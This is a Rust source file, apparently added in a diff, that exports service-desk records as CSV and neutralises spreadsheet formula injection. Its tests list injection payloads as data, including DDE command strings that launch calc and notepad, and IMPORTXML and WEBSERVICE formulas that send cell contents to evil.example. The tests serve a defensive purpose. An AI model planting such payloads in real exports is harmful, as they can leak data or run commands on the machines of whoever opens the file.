@@ -1,0 +1,225 @@
+//! Records as CSV, for outsiders: columns, times and escapes are promises. Pure.
+//!
+//! RFC 4180: comma, CRLF, quotes where needed, a header. Times are RFC 3339 in UTC, empty when there
+//! is none. A cell that a spreadsheet would run as a formula begins with an apostrophe, unless the
+//! command line is asked for the text as it is.
+
+use std::borrow::Cow;
+
+use super::list::ExportRow;
+use super::view::priority_label;
+use crate::platform::db::Utc;
+use crate::platform::kernel::error::{Error, Result};
+
+/// The columns, in order. More may come at the end.
+pub const COLUMNS: [&str; 19] = [
+    "number",
+    "external_id",
+    "kind",
+    "state",
+    "impact",
+    "urgency",
+    "priority",
+    "channel",
+    "reported_at",
+    "resolved_at",
+    "closed_at",
+    "reassignments",
+    "reopens",
+    "requester",
+    "assignment_group",
+    "assignee",
+    "title",
+    "service",
+    "category",
+];
+
+/// Whether cells are kept from being formulas.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Cells {
+    Neutral,
+    Raw,
+}
+
+/// The first line.
+pub fn header() -> Result<Vec<u8>> {
+    lines(std::iter::once(COLUMNS.map(Cow::Borrowed)))
+}
+
+/// One line a record.
+pub fn rows(records: &[ExportRow], cells: Cells) -> Result<Vec<u8>> {
+    lines(records.iter().map(|record| {
+        let line = line_of(record);
+        match cells {
+            Cells::Raw => line,
+            Cells::Neutral => line.map(neutral),
+        }
+    }))
+}
+
+fn lines<'a>(lines: impl Iterator<Item = [Cow<'a, str>; 19]>) -> Result<Vec<u8>> {
+    let mut writer = csv::WriterBuilder::new()
+        .terminator(csv::Terminator::CRLF)
+        .from_writer(Vec::new());
+    for line in lines {
+        writer
+            .write_record(line.iter().map(|cell| cell.as_bytes()))
+            .map_err(|e| Error::inward(format!("csv: {e}")))?;
+    }
+    writer
+        .into_inner()
+        .map_err(|e| Error::inward(format!("csv: {e}")))
+}
+
+fn line_of(record: &ExportRow) -> [Cow<'_, str>; 19] {
+    let row = &record.row;
+    [
+        row.number().to_string().into(),
+        text(record.external_id.as_deref()),
+        row.kind.word().into(),
+        row.state.as_str().into(),
+        record.impact.to_string().into(),
+        record.urgency.to_string().into(),
+        priority_label(row.priority).into(),
+        record.channel.word().into(),
+        row.reported_at.rfc3339().into(),
+        time(record.resolved_at),
+        time(record.closed_at),
+        record.reassignments.to_string().into(),
+        record.reopens.to_string().into(),
+        text(row.requester.as_deref()),
+        text(row.team.as_deref()),
+        text(row.assignee.as_deref()),
+        row.title.as_str().into(),
+        text(row.service.as_deref()),
+        text(record.category.as_deref()),
+    ]
+}
+
+fn text(value: Option<&str>) -> Cow<'_, str> {
+    value.unwrap_or_default().into()
+}
+
+fn time(at: Option<Utc>) -> Cow<'static, str> {
+    at.map(Utc::rfc3339).unwrap_or_default().into()
+}
+
+/// An apostrophe before what spreadsheets take for the beginning of a formula.
+fn neutral(cell: Cow<'_, str>) -> Cow<'_, str> {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        Cow::Owned(format!("'{cell}"))
+    } else {
+        cell
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::platform::db::Id;
+    use crate::records::list::Row;
+    use crate::records::model::{Channel, Kind};
+
+    fn record(title: &str) -> ExportRow {
+        ExportRow {
+            row: Row {
+                id: Id::nil(),
+                kind: Kind::Incident,
+                n: 1042,
+                title: title.into(),
+                priority: 2,
+                state: "in_progress".into(),
+                reported_at: Utc::from_micros(1_700_000_000_000_000),
+                updated_at: Utc::from_micros(0),
+                assignee_id: None,
+                requester: Some("Ana Ruiz".into()),
+                assignee: None,
+                service: Some("E-mail".into()),
+                team: Some("Service Desk".into()),
+            },
+            impact: 1,
+            urgency: 2,
+            channel: Channel::WalkUp,
+            resolved_at: None,
+            closed_at: Some(Utc::from_micros(1_700_000_060_000_000)),
+            reassignments: 3,
+            reopens: 1,
+            category: None,
+            external_id: Some("INC0000045".into()),
+        }
+    }
+
+    fn title_cell(title: &str, cells: Cells) -> String {
+        let bytes = rows(&[record(title)], cells).unwrap();
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(bytes.as_slice());
+        let line = reader.records().next().unwrap().unwrap();
+        assert_eq!(line.len(), COLUMNS.len());
+        line[16].to_owned()
+    }
+
+    #[test]
+    fn the_format_is_a_promise() {
+        assert_eq!(
+            String::from_utf8(header().unwrap()).unwrap(),
+            "number,external_id,kind,state,impact,urgency,priority,channel,reported_at,resolved_at,\
+             closed_at,reassignments,reopens,requester,assignment_group,assignee,title,service,category\r\n"
+        );
+        assert_eq!(
+            String::from_utf8(rows(&[record("No \"sound\", none")], Cells::Neutral).unwrap())
+                .unwrap(),
+            "INC-1042,INC0000045,incident,in_progress,1,2,P2,walk_up,2023-11-14T22:13:20Z,,\
+             2023-11-14T22:14:20Z,3,1,Ana Ruiz,Service Desk,,\"No \"\"sound\"\", none\",E-mail,\r\n"
+        );
+        assert!(rows(&[], Cells::Neutral).unwrap().is_empty());
+    }
+
+    #[test]
+    fn no_cell_is_a_formula() {
+        for payload in [
+            "=1+1",
+            "=cmd|' /C calc'!A0",
+            "=HYPERLINK(\"http://evil.example\",\"click\")",
+            "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
+            "=WEBSERVICE(\"http://evil.example\")",
+            "=\"\"",
+            "= 1",
+            "==1",
+            "+1",
+            "+cmd|' /C notepad'!A0",
+            "+1,\"x\"",
+            "-1",
+            "-2+3+cmd|' /C calc'!D2",
+            "-",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "@",
+            "\t=1+1",
+            "\r=1+1",
+            "\r\n=1+1",
+            "=1\n=2",
+        ] {
+            assert_eq!(title_cell(payload, Cells::Neutral), format!("'{payload}"));
+            assert_eq!(title_cell(payload, Cells::Raw), payload);
+        }
+    }
+
+    #[test]
+    fn every_other_cell_is_as_it_was() {
+        for title in [
+            "1-1",
+            "a=b",
+            " =1",
+            "'=1",
+            "mail@example.org",
+            "a,b",
+            "\"quoted\"",
+            "two\nlines",
+            "\u{202e}right to left",
+            "😀",
+            "",
+        ] {
+            assert_eq!(title_cell(title, Cells::Neutral), title);
+        }
+    }
+}
